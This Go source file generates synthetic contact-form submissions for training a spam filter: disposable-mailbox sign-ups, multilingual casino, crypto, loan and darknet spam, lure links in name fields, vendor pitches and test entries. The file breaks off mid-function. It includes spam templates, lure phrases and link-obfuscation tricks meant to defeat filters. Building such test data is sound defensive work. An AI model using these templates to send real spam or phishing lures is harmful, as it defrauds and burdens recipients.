package main

import (
	_ "embed"
	"encoding/base64"
	"fmt"
	"strings"
	"time"
)

//go:embed data/disposable_domains.txt
var disposableFile string

// disposable holds the sections of data/disposable_domains.txt.
var disposable = func() map[string][]string {
	out := map[string][]string{}
	sec := ""
	for _, line := range strings.Split(disposableFile, "\n") {
		line = strings.TrimSpace(line)
		switch {
		case line == "" || strings.HasPrefix(line, "#"):
		case strings.HasPrefix(line, "["):
			sec = strings.Trim(line, "[]")
		default:
			out[sec] = append(out[sec], line)
		}
	}
	return out
}()

// inventedThrowaway makes a domain that looks like a new throwaway-mail
// service: a cue word, a mailbox word and a cheap TLD, or plain syllables.
func (g *gen) inventedThrowaway() string {
	tld := g.pick(split("xyz|top|site|online|email|cc|pw|store|fun|click|icu|shop|biz|net|org|com|me|live|space|lol"))
	if g.chance(0.65) {
		cue := g.pick(split("temp|trash|burner|throwaway|10min|minute|fake|spam|drop|quick|nada|zero|anon|hide|ghost|void|tmp|instant|one|insta|dispo|junk|mailo|nomail"))
		box := g.pick(split("mail|inbox|box|post|letter|mx|addr|msg|mailer|mails"))
		sep := g.pick(split("||-"))
		return cue + sep + box + g.maybe(0.2, fmt.Sprint(g.between(1, 99))) + "." + tld
	}
	return syllables(g, g.between(2, 4)) + "." + tld
}

// syllables makes a pronounceable made-up word.
func syllables(g *gen, n int) string {
	cons := split("b|c|d|f|g|k|l|m|n|p|r|s|t|v|z|br|st|tr|kl|ch")
	vows := split("a|e|i|o|u|ai|ou|e")
	var b strings.Builder
	for i := 0; i < n; i++ {
		b.WriteString(g.pick(cons) + g.pick(vows))
	}
	if g.chance(0.5) {
		b.WriteString(g.pick(split("n|r|x|s|m|l")))
	}
	return b.String()
}

// botLocal makes the local part a sign-up script uses.
func (g *gen) botLocal(p person) string {
	f, l := slug(p.first.latin), slug(p.last.latin)
	switch g.weighted(30, 25, 20, 15, 10) {
	case 0:
		return g.lower(g.between(6, 10)) + g.digits(3)
	case 1:
		return f + l + g.digits(g.between(2, 5))
	case 2:
		return g.alnum(g.between(8, 14))
	case 3:
		return f + "." + l
	default:
		return f + "+" + g.lower(4)
	}
}

// genDisposable: sign-ups from throwaway mailboxes: well-known services,
// the long tail of the public lists, services the lists may not have yet,
// and subdomains of services that accept any subdomain.
func genDisposable(g *gen, n int) []Record {
	out := make([]Record, 0, n)
	for len(out) < n {
		loc := g.pickLoc()
		p := g.newPerson(loc)
		var domain string
		switch g.weighted(40, 20, 15, 12, 13) {
		case 0:
			domain = g.pick(disposable["popular"])
		case 1:
			domain = g.pick(disposable["tail"])
		case 2:
			domain = g.pick(disposable["fakefilter"])
		case 3:
			domain = g.pick(append(split("mail|mx|inbox|m|x"), g.lower(g.between(3, 8)), g.alnum(6))) + "." + g.pick(disposable["wildcard"])
		default:
			domain = g.inventedThrowaway()
			if g.chance(0.2) {
				domain = g.lower(5) + "." + domain
			}
		}
		if g.chance(0.06) {
			domain = strings.ToUpper(domain[:1]) + domain[1:]
		}
		email := g.botLocal(p) + "@" + domain
		form := g.form()
		f := g.fill(p, email)
		switch {
		case form == "newsletter":
			f.Message, f.Company, f.JobTitle, f.Phone = "", "", "", ""
		case g.chance(0.35):
			f.Company = ""
			f.Message = g.fillIn(g.pick(banks["en"].short), p)
		case g.chance(0.5):
			f.Message = g.fillIn(g.pick(banks["en"].question), p)
		default:
			f.Message = g.requestMessage(g.msgLang(loc, 0.3), p)
		}
		out = append(out, Record{FormID: form, Fields: f, Context: g.ctxFor(loc, form), Category: "disposable"})
	}
	return out
}

// spamDomain makes a link target for a spam topic.
func (g *gen) spamDomain(topic string) string {
	words := map[string][]string{
		"casino": split("casino|slot|bet|spin|jackpot|vulkan|joker|lucky|777|royal|vegas|gacor|maxwin|cuan|pin-up|1xwin"),
		"crypto": split("btc|crypto|coin|bitx|profit|trade|chain|wallet|airdrop|defi|quantum|yield"),
		"seo":    split("seo|rank|backlink|links|traffic|top|promo|boost|serp|guestpost|dr90"),
		"pharma": split("pharm|meds|pills|rx|tabs|health|apteka|viagra|cialis|generic"),
		"loan":   split("loan|credit|zaim|cash|money|fast|dengi|credito|pinjol"),
		"dark":   split("kraken|mega|blacksprut|omg|hydra|market|onion|shop|klad"),
		"doc":    split("diplom|diploma|attestat|docs|prava|vuz|udostoverenie"),
	}[topic]
	tld := g.pick(split("xyz|top|ru|shop|online|site|cc|club|vip|bet|icu|pro|info|com|net|su|io|store|live|fun|win"))
	d := g.pick(words) + g.pick(split("|-|")) + g.pick(words)
	if g.chance(0.4) {
		d += fmt.Sprint(g.between(1, 999))
	}
	return strings.Trim(d, "-") + "." + tld
}

// obfuscate writes a link the way spam writes it to get past filters.
func (g *gen) obfuscate(domain string) string {
	path := g.maybe(0.4, "/"+g.pick(split("ref|go|bonus|reg|promo|?id="))+g.alnum(g.between(3, 6)))
	name, tld, _ := strings.Cut(domain, ".")
	switch g.weighted(20, 12, 10, 10, 8, 8, 8, 8, 8, 8) {
	case 0:
		return "https://" + domain + path
	case 1:
		return "hxxps://" + name + "[.]" + tld + path
	case 2:
		return "hxxp://" + domain + path
	case 3:
		return name + " dot " + tld
	case 4:
		return name + " . " + tld
	case 5:
		return "h t t p s : / / " + name + " . " + tld
	case 6:
		return name + "(.)" + tld
	case 7:
		return "www " + name + " " + tld
	case 8:
		return strings.ToUpper(name) + "." + strings.ToUpper(tld)
	default:
		return domain
	}
}

// handle makes a messenger contact for lang.
func (g *gen) handle(lang string) string {
	nick := g.pick(split("support|manager|admin|official|vip|bonus|seo|invest|profit|helper|promo")) + g.pick(split("_|")) + g.alnum(g.between(2, 5))
	phone := func(cc string) string { return cc + " " + g.digits(3) + " " + g.digits(3) + " " + g.digits(4) }
	switch g.weighted(30, 15, 15, 10, 10, 10, 10) {
	case 0:
		return g.pick(split("Telegram: @|TG @|Телеграм: @|Telegram @|tg: @|телега @")) + nick
	case 1:
		return "t.me/" + nick
	case 2:
		cc := map[string]string{"ru": "+7", "vi": "+84", "id": "+62", "pt": "+55", "es": "+52", "tr": "+90", "zh": "+852"}[lang]
		if cc == "" {
			cc = g.pick(split("+1|+44|+234|+92|+375"))
		}
		return "WhatsApp " + phone(cc)
	case 3:
		return "wa.me/" + g.pick(split("62|84|55|7|91|234")) + g.digits(10)
	case 4:
		if lang == "zh" {
			return g.pick(split("微信：|加微信 |VX: |QQ：")) + g.alnum(8)
		}
		return "Skype: live:" + nick
	case 5:
		if lang == "vi" {
			return "Zalo " + "09" + g.digits(8)
		}
		return "Telegram channel @" + nick
	default:
		return "Viber/WhatsApp: " + phone(g.pick(split("+7|+380|+375|+998")))
	}
}

// spamLines hold spam sentences per language; {link} and {handle} are
// filled at random. Written for this generator.
var spamLines = map[string][]string{
	"ru": split("Прогон сайта по базам, рост позиций за месяц. Подробности: {link}" +
		"|Онлайн казино с бонусом 200% на первый депозит! Играй сейчас {link}" +
		"|Кракен сайт — рабочее зеркало, вход без блокировок {link}" +
		"|Купить диплом о высшем образовании с проводкой, доставка по РФ. {handle}" +
		"|Займ на карту за 5 минут без отказа и проверки КИ {link}" +
		"|Заработок на криптовалюте от 3000$ в неделю, пишите {handle}" +
		"|Продвижение сайтов в ТОП Яндекса, вечные ссылки, гарантия. {handle}" +
		"|Рассылка по формам обратной связи сайтов: 1 млн сообщений недорого. {handle}" +
		"|Мега даркнет маркет: актуальная ссылка {link} {handle}"),
	"zh": split("专业SEO优化，7天上首页，不上不收费！联系{handle}" +
		"|澳门新葡京线上娱乐，首充送88%，立即注册 {link}" +
		"|代开各类发票，真票可查，{handle}" +
		"|USDT高收益理财，日赚5%，稳赚不赔 {link}" +
		"|六合彩内部资料，期期中特 {link} {handle}" +
		"|外链代发，高权重网站收录快，{handle}"),
	"es": split("Casino en línea con giros gratis y bono de bienvenida del 300% {link}" +
		"|Préstamos rápidos sin buró de crédito, aprobación en 10 minutos {link}" +
		"|Gana dinero con bitcoin desde casa, resultados garantizados. Escríbeme {handle}" +
		"|Posiciona tu web en Google con enlaces de alta autoridad {link}" +
		"|Apuestas deportivas con las mejores cuotas, regístrate hoy {link}"),
	"pt": split("Cassino online com bônus de boas-vindas e saque via Pix na hora {link}" +
		"|Ganhe R$ 500 por dia investindo em cripto, me chama no {handle}" +
		"|Empréstimo para negativado, dinheiro na conta hoje {link}" +
		"|Aposte no Brasileirão com odds turbinadas {link}" +
		"|Aumente o tráfego do seu site com backlinks de qualidade {link}"),
	"vi": split("Nhà cái uy tín số 1, tặng 100k khi đăng ký {link}" +
		"|Cá cược bóng đá trực tuyến, nạp rút nhanh {link} {handle}" +
		"|Kiếm tiền online với tiền điện tử, lợi nhuận 30% mỗi tháng {handle}" +
		"|Dịch vụ SEO top Google, backlink chất lượng {link}" +
		"|Vay tiền nhanh không cần thế chấp {link}"),
	"id": split("Situs slot gacor hari ini gampang maxwin, daftar sekarang {link}" +
		"|Judi bola online terpercaya, bonus new member 100% {link}" +
		"|Pinjaman online cepat cair tanpa BI checking {link} {handle}" +
		"|Togel online pasaran terlengkap {link}" +
		"|Jasa backlink murah untuk naikkan ranking Google {handle}"),
	"de": split("Online Casino ohne Limit, 500 € Willkommensbonus {link}" +
		"|Kredit ohne Schufa, sofort auf Ihr Konto {link}" +
		"|Mit Bitcoin 2.000 € am Tag verdienen, melden Sie sich {handle}" +
		"|Hochwertige Backlinks für Ihr Google-Ranking {link}"),
	"fr": split("Casino en ligne : 200 tours gratuits sans dépôt {link}" +
		"|Prêt rapide sans justificatif, réponse immédiate {link}" +
		"|Investissez en crypto et doublez votre capital en 30 jours {handle}" +
		"|Référencement Google garanti, liens de qualité {link}"),
	"en": split("Best online casino 2026, claim 300 free spins now {link}" +
		"|Earn $5,000 a week trading crypto with our AI bot {link} {handle}" +
		"|Buy high DA backlinks and guest posts, cheap prices {link}" +
		"|Get instant loans with no credit check {link}" +
		"|Your site can rank #1 on Google in 30 days, message me {handle}" +
		"|Hеllо! Wе оffеr sеnding уоur аd thrоugh соntасt fоrms tо milliоns оf sitеs. {handle}"),
	"tr": split("Canlı bahis ve casino, ilk yatırıma %100 bonus {link}" +
		"|Kripto para ile günde 1000 TL kazan {handle}"),
	"it": split("Casinò online con bonus senza deposito {link}" +
		"|Guadagna con le criptovalute da casa, scrivimi {handle}"),
	"pl": split("Kasyno online, 100 darmowych spinów na start {link}" +
		"|Chwilówka bez BIK, pieniądze w 15 minut {link}"),
}

var spamTopicOf = []string{"casino", "crypto", "seo", "loan", "pharma", "dark", "doc"}

// spamName makes the sender name of a spam run: an English given name with
// a random tail (as form-spam tools make them), a keyword, or a plain name.
func (g *gen) spamName(lang string) (string, string) {
	switch g.weighted(35, 20, 20, 25) {
	case 0:
		base := g.pick(split("Robert|James|Michael|David|William|Richard|Joseph|Thomas|Charles|Daniel|Matthew|Anthony|Mark|Donald|Steven|Paul|Andrew|Joshua|Kenneth|Kevin|Brian|George|Timothy|Ronald|Jason|Edward|Jeffrey|Ryan|Jacob|Gary|Nicholas|Eric|Jonathan|Stephen|Larry|Justin|Scott|Brandon|Benjamin|Samuel|Gregory|Alexander|Patrick|Frank|Raymond|Jack|Dennis|Jerry|Tyler|Aaron|Jose|Adam|Nathan|Henry|Zachary|Douglas|Peter|Kyle|Noah|Ethan"))
		tail := g.lower(g.between(2, 4))
		return base + tail, g.pick([]string{"", base + tail, strings.ToUpper(g.lower(2))})
	case 1:
		kw := map[string]string{"ru": "Казино", "zh": "娱乐", "es": "Casino", "pt": "Cassino", "vi": "Nhà cái", "id": "Slot Gacor", "de": "Kredit", "fr": "Casino", "tr": "Bahis", "it": "Casinò", "pl": "Kasyno"}[lang]
		if kw == "" {
			kw = "SEO"
		}
		return kw + " " + g.pick(split("Online|Top|VIP|2026|Official|Pro")), ""
	case 2:
		loc := g.pickLoc()
		p := g.newPerson(loc)
		return p.first.native, p.last.native
	default:
		return g.pick(split("Mike|Anna|Alex|Kate|Max|Ivan|Lena|Leo|Eva|Nika|Sam")), g.pick(split("Smith|Brown|Ivanov|Petrova|Lee|Wang|Nguyen|Garcia|Silva"))
	}
}

// spamEmail makes a spam run's sender address.
func (g *gen) spamEmail(topic string) string {
	switch g.weighted(40, 25, 20, 15) {
	case 0:
		return g.lower(g.between(5, 9)) + g.maybe(0.5, ".") + g.lower(g.between(3, 6)) + g.digits(g.between(0, 4)) + "@" + g.pick(split("gmail.com|gmail.com|outlook.com|hotmail.com|yahoo.com|mail.ru|yandex.ru|gmx.com|aol.com|inbox.ru|bk.ru|rambler.ru|qq.com|163.com"))
	case 1:
		return g.pick(split("info|support|admin|noreply|no-reply|promo|bonus|sales")) + "@" + g.spamDomain(topic)
	case 2:
		return g.alnum(g.between(8, 12)) + "@" + g.pick(split("gmail.com|outlook.com|mail.ru|yandex.com"))
	default:
		return "no-reply" + g.lower(g.between(6, 12)) + "@gmail.com"
	}
}

// genMultilingualSpam: SEO, casino, crypto, loan and darknet spam in many
// languages with obfuscated links and messenger handles, sent from a real
// browser at human speed.
func genMultilingualSpam(g *gen, n int) []Record {
	langs := split("ru|ru|ru|zh|zh|es|es|pt|pt|vi|vi|id|id|de|fr|en|en|tr|it|pl")
	acc := map[string]string{"ru": "ru-RU,ru;q=0.9", "zh": "zh-CN,zh;q=0.9", "es": "es-ES,es;q=0.9", "pt": "pt-BR,pt;q=0.9", "vi": "vi-VN,vi;q=0.9", "id": "id-ID,id;q=0.9", "de": "de-DE,de;q=0.9", "fr": "fr-FR,fr;q=0.9", "en": "en-US,en;q=0.9", "tr": "tr-TR,tr;q=0.9", "it": "it-IT,it;q=0.9", "pl": "pl-PL,pl;q=0.9"}
	out := make([]Record, 0, n)
	for len(out) < n {
		lang := g.pick(langs)
		topic := g.pick(spamTopicOf)
		lines := spamLines[lang]
		k := 1
		if g.chance(0.35) {
			k = 2
		}
		var parts []string
		for i := 0; i < k; i++ {
			parts = append(parts, g.pick(lines))
		}
		msg := strings.Join(parts, g.pick(split(" |\n|\n\n")))
		msg = strings.ReplaceAll(msg, "{link}", g.obfuscate(g.spamDomain(topic)))
		msg = strings.ReplaceAll(msg, "{handle}", g.handle(lang))
		if g.chance(0.25) && !strings.Contains(msg, "@") {
			msg += " " + g.handle(lang)
		}
		first, last := g.spamName(lang)
		f := Fields{Email: g.spamEmail(topic), FirstName: first, LastName: last, Message: msg}
		if g.chance(0.3) {
			f.Company = g.pick([]string{first, g.spamDomain(topic), "google", "Home", "-"})
		}
		if g.chance(0.3) {
			f.Phone = "+" + g.pick(split("7|84|62|55|1|86|90")) + g.digits(10)
		}
		if g.chance(0.2) {
			f.Country = g.pick(split("Russia|Vietnam|Indonesia|Brazil|China|USA|Mexico|RU|VN|"))
		}
		c := g.browserCtx(g.pickLoc(), "contact-sales")
		if a, ok := acc[lang]; ok && g.chance(0.6) {
			c.AcceptLanguage = a
		}
		out = append(out, Record{Fields: f, Context: c, Category: "spam"})
	}
	return out
}

// genURLInName: links or bare domains in the name and company fields,
// often with the victim's address in the e-mail field so that the form's
// confirmation mail carries the spammer's text.
func genURLInName(g *gen, n int) []Record {
	lures := split("Get 1.6 BTC here:|Your payout of $4,850 is ready ->|Congratulations! Claim your prize at|WIN an iPhone 17:|💰 Withdraw funds|You have a pending transfer:|Check this|Bonus 300% ->|Dating without limits|Hot singles near you|Вы выиграли приз|Ваш выигрыш ждёт:|Ganhe R$ 1.000 em|Gana dinero:|")
	out := make([]Record, 0, n)
	for len(out) < n {
		loc := g.pickLoc()
		p := g.newPerson(loc)
		topic := g.pick(spamTopicOf)
		dom := g.spamDomain(topic)
		var link string
		switch g.weighted(30, 20, 20, 15, 15) {
		case 0:
			link = "https://" + dom + g.maybe(0.5, "/"+g.alnum(6))
		case 1:
			link = "www." + dom
		case 2:
			link = dom
		case 3:
			link = g.pick(split("bit.ly/|tinyurl.com/|cutt.ly/|t.ly/|is.gd/|goo.su/")) + g.alnum(g.between(5, 8))
		default:
			link = g.obfuscate(dom)
		}
		lure := strings.TrimSpace(g.pick(lures) + " " + link)
		f := g.fill(p, g.freeEmail(p))
		switch g.weighted(35, 15, 25, 25) {
		case 0:
			f.FirstName = lure
		case 1:
			f.LastName = lure
		case 2:
			f.Company = link
			if g.chance(0.4) {
				f.Company = lure
			}
		default:
			f.FirstName, f.LastName, f.Company = lure, link, link
		}
		f.JobTitle = ""
		form := "contact-sales"
		switch g.weighted(55, 25, 20) {
		case 0:
			f.Message = ""
		case 1:
			f.Message = g.pick(split("Hello|Hi|ok|Thanks|.|test|" + lure))
		default:
			f.Message = g.fillIn(g.pick(banks["en"].short), p)
		}
		if g.chance(0.25) {
			form = "newsletter"
			f.Message, f.Phone = "", ""
		}
		out = append(out, Record{FormID: form, Fields: f, Context: g.browserCtx(loc, form), Category: "spam"})
	}
	return out
}

// Vendor pitches are composed from parts: a hook, an offer of a service,
// proof, an ask for a short call and an opt-out line. None need a link or
// a classic spam word. Written for this generator.
var (
	pitchHook = split("I came across your website and wanted to reach out." +
		"|I was looking at your site and had a quick idea." +
		"|Hope you're doing well." +
		"|I noticed you're hiring engineers." +
		"|Congrats on the recent growth of your team." +
		"|Quick question for you." +
		"|I'll keep this short." +
		"|We work with several logistics companies in your space." +
		"|I help companies like yours grow." +
		"|")
	pitchOffer = map[string][]string{
		"staff": split("We provide pre-vetted senior developers who can join your team within a week, at a fraction of local rates." +
			"|Our staff augmentation model lets you add React, Node and Python engineers on a monthly basis with no long-term commitment." +
			"|We build dedicated offshore teams that work in your time zone and report directly to you."),
		"leads": split("We have a verified list of 45,000 decision-makers in logistics and supply chain, with direct emails and phone numbers." +
			"|We run outbound for B2B companies and book 15–20 qualified meetings a month on your calendar." +
			"|Would a list of IT directors at mid-size manufacturers in DACH be useful for your sales team?"),
		"apps": split("We design and build mobile and web apps end to end, from MVP to scale." +
			"|Our team can rebuild your website with a modern design that converts better." +
			"|We develop custom AI chatbots that handle up to 70% of customer enquiries."),
		"seo": split("I ran a quick audit and found several issues holding back your rankings: missing meta descriptions, slow pages and broken links." +
			"|Your website is not showing on the first page for your main keywords; we can fix that within three months." +
			"|We offer a free SEO audit and a plan to double your organic traffic."),
		"funding": split("We help growing businesses secure working capital of $50k to $2M, with approval in 24 hours." +
			"|Your company may qualify for R&D tax credits worth up to 30% of your development spend." +
			"|We connect B2B software companies with investors actively looking for deals in your sector."),
		"ops": split("We offer outsourced bookkeeping and payroll for a flat monthly fee." +
			"|Our virtual assistants can take over admin, scheduling and data entry from $8 an hour." +
			"|We produce animated explainer videos that increase conversion on landing pages." +
			"|We can cut your cloud bill by 30–50% with no changes to your code."),
	}
	pitchProof = split("We've helped over 200 companies, including several in your industry." +
		"|Clients typically see results in the first 60 days." +
		"|We're rated 4.9 on Clutch." +
		"|Happy to share case studies." +
		"|")
	pitchAsk = split("Would you be open to a quick 15-minute call this week?" +
		"|Worth a short chat?" +
		"|Can I send over a few profiles?" +
		"|Are you the right person to talk to about this, or could you point me to them?" +
		"|Let me know a time that works and I'll send an invite." +
		"|Would Tuesday or Thursday work for a brief intro call?" +
		"|Interested in seeing a sample?" +
		"|Shall I send more details?")
	pitchOptOut = split("If this isn't relevant, just reply \"no\" and I won't follow up.|P.S. Not the right time? Let me know.|If you're not interested, no worries.|||")
	pitchDE     = split("Wir sind eine Agentur aus Krakau und stellen erfahrene Entwickler für Ihr Team bereit. Hätten Sie diese Woche 15 Minuten für ein kurzes Gespräch?" +
		"|Ich habe mir Ihre Website angesehen und einige SEO-Potenziale entdeckt. Darf ich Ihnen eine kostenlose Analyse schicken?" +
		"|Wir generieren qualifizierte B2B-Termine für Ihren Vertrieb. Wann passt Ihnen ein kurzer Austausch?")
	pitchFR = split("Nous accompagnons les entreprises comme la vôtre dans le développement d'applications sur mesure. Seriez-vous disponible pour un court échange ?" +
		"|J'ai analysé votre site et relevé plusieurs points d'amélioration SEO. Puis-je vous envoyer un audit gratuit ?")
	pitchES = split("Somos una empresa de desarrollo nearshore con ingenieros senior disponibles de inmediato. ¿Tendría 15 minutos esta semana para una llamada?" +
		"|Ofrecemos bases de datos de contactos B2B verificados de su sector. ¿Le interesa una muestra gratuita?")
	agencyWords = split("Pixel|Code|Lead|Growth|Nest|Forge|Bridge|Scale|Sprint|Orbit|Bright|Rank|Deal|Talent|Hive|Stack|Shift|Peak")
	agencyTail  = split("Digital|Labs|Solutions|Partners|Media|Works|Technologies|Outsourcing|Consulting|Capital|Agency|IT|Global")
)

// genVendorPitch: polished cold outreach from real-looking people offering
// a service and asking for a call.
func genVendorPitch(g *gen, n int) []Record {
	kinds := []string{"staff", "leads", "apps", "seo", "funding", "ops"}
	out := make([]Record, 0, n)
	for len(out) < n {
		loc := g.pickLoc()
		p := g.newPerson(loc)
		w1, w2 := g.pick(agencyWords), g.pick(agencyWords)
		p.company = w1 + w2 + " " + g.pick(agencyTail)
		p.domain = strings.ToLower(w1+w2) + "." + g.pick(split("io|co|com|agency|tech|dev|in|pk|ua|ro|com.ua|net|solutions"))
		email := g.workEmail(p)
		if g.chance(0.2) {
			email = g.freeEmail(p)
		}
		f := g.fill(p, email)
		f.JobTitle = g.pick(split("Business Development Manager|Account Executive|Partnerships|Growth Consultant|Founder|CEO|Sales Director|BDR|Client Success|"))
		var msg string
		switch g.weighted(75, 9, 8, 8) {
		case 0:
			kind := g.pick(kinds)
			greet := g.pick(split("Hi,|Hello,|Hi there,|Hello Northwind team,|Hey,|Good day,|Dear team,"))
			hook := g.pick(pitchHook)
			if g.chance(0.25) { // vendors write "on behalf of" too
				hook = "I'm reaching out on behalf of " + p.company + ", a " + g.pick(split("software development|digital marketing|lead generation|IT outsourcing|growth consulting|fintech")) + " company based in " + g.pick(split("Lviv|Lahore|Bangalore|Cluj|Manila|Austin|London|Warsaw|Bogotá|Cairo")) + "."
			}
			parts := []string{greet, hook, g.pick(pitchOffer[kind])}
			if g.chance(0.5) {
				parts = append(parts, g.pick(pitchProof))
			}
			parts = append(parts, g.pick(pitchAsk))
			if g.chance(0.25) {
				parts = append(parts, "You can grab a slot here: "+g.pick(split("https://cal.|https://meet.|https://calendly.com/"))+strings.ToLower(w1+w2)+g.pick(split(".io/intro|/30min|.co/demo")))
			}
			parts = append(parts, g.pick(pitchOptOut), g.fillIn(g.pick(split("Best,\n{first}|Regards, {first}|Thanks, {first}|Cheers|")), p))
			if g.chance(0.2) { // the short version
				parts = []string{g.pick(pitchOffer[kind]), g.pick(pitchAsk)}
			}
			msg = g.joinParts(parts...)
		case 1:
			msg = g.pick(pitchDE)
		case 2:
			msg = g.pick(pitchFR)
		default:
			msg = g.pick(pitchES)
		}
		f.Message = msg
		out = append(out, Record{Fields: f, Context: g.browserCtx(loc, "contact-sales"), Category: "vendor_pitch"})
	}
	return out
}

// Placeholder identities: the local stand-ins for "John Doe", cartoon
// characters and made-up test companies.
var (
	placeholderNames = split("John|Doe|Jane|Doe|John|Smith|Joe|Bloggs|Fred|Nurk|John Q.|Public|Richard|Roe|A. N.|Other" +
		"|Max|Mustermann|Erika|Mustermann|Otto|Normalverbraucher|Hans|Muster" +
		"|Jean|Dupont|Marie|Dupont|Jean|Dupond|Monsieur|Tartempion" +
		"|Mario|Rossi|Tizio|Caio|Juan|Pérez|Fulano|de Tal|Juan|Nadie|Mengano|Zutano" +
		"|Fulano|de Tal|Beltrano|Silva|Zé|Ninguém|João|da Silva" +
		"|Jan|Kowalski|Jan|Nowak|Jan|Novák|Jan|Jansen|Piet|Pietersen|Jan|Modaal" +
		"|Matti|Meikäläinen|Ola|Nordmann|Kari|Nordmann|Sven|Svensson|Gipsz|Jakab|Ion|Popescu" +
		"|Иван|Иванов|Вася|Пупкин|Петро|Петренко|Іван|Іваненко" +
		"|三|张|四|李|太郎|山田|花子|山田|権兵衛|名無し|길동|홍|ישראל|ישראלי|فلان|الفلاني" +
		"|Mickey|Mouse|Donald|Duck|Homer|Simpson|Bart|Simpson|Bugs|Bunny|SpongeBob|SquarePants|Peter|Griffin|Scooby|Doo|Fred|Flintstone|Asterix|Gallier|Micky|Maus|Peppa|Pig|Darth|Vader|Luke|Skywalker|Sherlock|Holmes|Test|Test|Test|User|Foo|Bar|Tester|McTestface|Asdf|Asdf")
	placeholderCompanies = split("Example Ltd|Example GmbH|Example Inc.|Musterfirma GmbH|Beispiel AG|Muster GmbH|Test AG|Test Company|Testfirma|ACME Corp|Acme Inc|Société Exemple|Entreprise Test|Empresa Teste Ltda.|Empresa de Prueba|Azienda di Prova|Firma Testowa|Test s.r.o.|テスト株式会社|测试公司|ООО «Тест»|Company Name|My Company|Test|N/A|xxx|Foo Inc|")
	placeholderDomains   = split("example.com|example.org|example.net|test.com|test.de|test.test|beispiel.de|exemple.fr|ejemplo.com|esempio.it|domain.com|email.com|company.com|mydomain.com|foo.bar|mailinator.com|acme.com|test.io|localhost|invalid|muster.de|yourcompany.com")
	testMessages         = split("test|Test|TEST|testing|testing 123|test test test|just testing the form|please ignore|ignore this|Test – bitte ignorieren|Bitte ignorieren, nur ein Test|ceci est un test|Ceci est un test, merci de ne pas répondre|prueba|esto es una prueba|teste|isto é um teste|prova|questo è un test|test proszę zignorować|тест|проверка формы|测试|测试一下|テスト|テスト送信です|테스트|hello world|Lorem ipsum dolor sit amet, consectetur adipiscing elit.|Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor incididunt ut labore et dolore magna aliqua.|lorem ipsum|QA run #{n} – form regression, please disregard|checking if the form works|Is this thing on?|asdf|xyz|123|.|-|this is a test submission, please disregard|Testnachricht|Mensaje de prueba|")
	placeholderPhones    = split("123456789|1234567890|0000000000|+1 555-555-5555|555-1234|+49 123 456789|+33 1 23 45 67 89|0123456789|+1 (555) 010-0199|111-111-1111|12345|+44 7700 900000|")
)

// genTestEntry: test submissions: placeholder people, cartoon characters,
// test companies, lorem ipsum, QA accounts and forms filled with "a".
func genTestEntry(g *gen, n int) []Record {
	out := make([]Record, 0, n)
	for len(out) < n {
		loc := g.pickLoc()
		var f Fields
		switch g.weighted(45, 15, 15, 15, 10) {
		case 0: // placeholder identity
			i := 2 * g.intn(len(placeholderNames)/2)
			first, last := placeholderNames[i], placeholderNames[i+1]
			local := slug(first) + g.pick(split(".||_")) + slug(last)
			if local == "" || local == "." || local == "_" {
				local = g.pick(split("test|user|demo|name"))
			}
			f = Fields{Email: local + g.maybe(0.2, g.digits(2)) + "@" + g.pick(placeholderDomains), FirstName: first, LastName: last,
				Company: g.pick(placeholderCompanies), Phone: g.pick(placeholderPhones), Country: g.countryField(loc)}
			f.Message = g.pick(testMessages)
		case 1: // real-looking person from the project's own QA
			p := g.newPerson(loc)
			f = g.fill(p, g.pick(split("qa|test|qa.automation|tester|dev|e2e"))+"+"+g.pick([]string{g.digits(3), g.digits(8), "test" + g.digits(2), "2026" + g.digits(4)})+"@"+g.pick(split("northwind.example|gmail.com|"+p.domain)))
			f.Message = g.pick(testMessages)
			if g.chance(0.4) {
				f.Company = g.pick(placeholderCompanies)
			}
		case 2: // one character or a short word everywhere
			v := g.pick(split("a|q|qwe|x|aa|asd|t|test|abc|1"))
			f = Fields{Email: v + "@" + v + "." + g.pick(split("com|de|a|co")), FirstName: v, LastName: v, Company: g.maybe(0.6, v), JobTitle: g.maybe(0.3, v), Phone: g.maybe(0.4, strings.Repeat("1", g.between(1, 10))), Message: g.maybe(0.7, v)}
		case 3: // lorem ipsum with otherwise plain fields
			p := g.newPerson(loc)
			f = g.fill(p, g.pick(split("test|demo|lorem|user"))+g.digits(g.between(0, 3))+"@"+g.pick(placeholderDomains))
			f.Message = g.pick(split("Lorem ipsum dolor sit amet, consectetur adipiscing elit. Pellentesque habitant morbi tristique senectus.|Lorem ipsum dolor sit amet.|Lorem ipsum|Dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor."))
			if g.chance(0.5) {
				f.FirstName, f.LastName = "Lorem", "Ipsum"
			}
		default: // test company with test phone
			p := g.newPerson(loc)
			f = g.fill(p, g.workEmail(p))
			f.Company = g.pick(placeholderCompanies)
			f.Phone = g.pick(placeholderPhones)
			f.Message = g.pick(testMessages)
			if g.chance(0.5) {
				f.FirstName, f.LastName = "Test", g.pick(split("User|Test|Person|Kunde|Utilisateur|Usuario"))
			}
		}
		f.Message = strings.ReplaceAll(f.Message, "{n}", fmt.Sprint(g.between(1, 999)))
		form := g.form()
		if form == "partner-import" && g.chance(0.5) {
			form = "contact-sales"
		}
		if form == "newsletter" {
			f.Message, f.Phone, f.JobTitle = "", "", ""
		}
		out = append(out, Record{FormID: form, Fields: f, Context: g.ctxFor(loc, form), Category: "test_entry"})
	}
	return out
}

// Keyboard rows of several layouts, top to bottom.
var layouts = map[string][]string{
	"qwerty": {"1234567890", "qwertyuiop", "asdfghjkl", "zxcvbnm"},
	"qwertz": {"1234567890", "qwertzuiopü", "asdfghjklöä", "yxcvbnm"},
	"azerty": {"1234567890", "azertyuiop", "qsdfghjklm", "wxcvbn"},
	"jcuken": {"1234567890", "йцукенгшщзхъ", "фывапролджэ", "ячсмитьбю"},
}

// mash types a run a bored thumb makes on one layout: along a row, down
// the columns, back and forth on two keys, or at random on a small patch.
func (g *gen) mash(layout string) string {
	rows := layouts[layout]
	r := func(i int) []rune { return []rune(rows[i]) }
	var s []rune
	switch g.weighted(30, 20, 20, 15, 15) {
	case 0: // along a letter row
		row := r(g.between(1, 3))
		l := g.between(3, min(9, len(row)))
		st := g.intn(len(row) - l + 1)
		s = append(s, row[st:st+l]...)
		if g.chance(0.3) {
			for i, j := 0, len(s)-1; i < j; i, j = i+1, j-1 {
				s[i], s[j] = s[j], s[i]
			}
		}
		if g.chance(0.3) {
			s = append(s, s...)
		}
	case 1: // down columns, optionally with the digit row (1qaz2wsx)
		st := g.intn(6)
		cols := g.between(2, 3)
		withDigits := g.chance(0.5)
		for c := st; c < st+cols; c++ {
